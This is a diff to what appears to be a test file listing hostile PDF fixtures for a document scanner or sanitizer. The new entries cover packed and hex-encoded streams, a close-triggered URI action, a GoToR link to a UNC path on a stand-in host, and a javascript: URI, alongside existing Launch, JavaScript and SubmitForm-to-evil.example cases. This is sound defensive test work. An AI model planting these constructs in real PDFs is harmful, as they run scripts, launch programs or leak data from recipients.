@@ -83,6 +83,7 @@ def wide(side: int) -> bytes:
     return PIXEL[:12] + head + pack(">I", crc32(head)) + PIXEL[33:]
 
 
+OTHERWISE = b"/ObjStm /Filter [/ASCIIHexDecode] >> stream\n3c3c>\nendstream"
 PACKED = b"/ObjStm >> stream\n" + compress(b"<</S /JavaScript /JS (x)>>") + b"\nendstream"
 
 HOSTILE_FILES: dict[str, Make] = {
@@ -187,6 +188,10 @@ HOSTILE_FILES: dict[str, Make] = {
     "document with a script": pdf(b"/S /JavaScript /JS (EVIL)"),
     "document with a script in disguise": pdf(b"/S /J#61v#61Script"),
     "document with a packed script": pdf(PACKED),
+    "document packed in another way": pdf(OTHERWISE),
+    "document that acts when it is shut": pdf(b"/AA <</WC <</S /URI /URI (https://x.fi)>> >>"),
+    "document that leads to another file": pdf(b"/S /GoToR /F (\\\\evil\\x)"),
+    "document with a script in an address": pdf(b"/S /URI /URI (javascript:EVIL)"),
     "document that starts a program": pdf(b"/S /Launch /F (EVIL)"),
     "document with files inside": pdf(b"/EmbeddedFiles 2 0 R"),
     "document with a form that is sent": pdf(b"/S /SubmitForm /F (https://evil.example/)"),
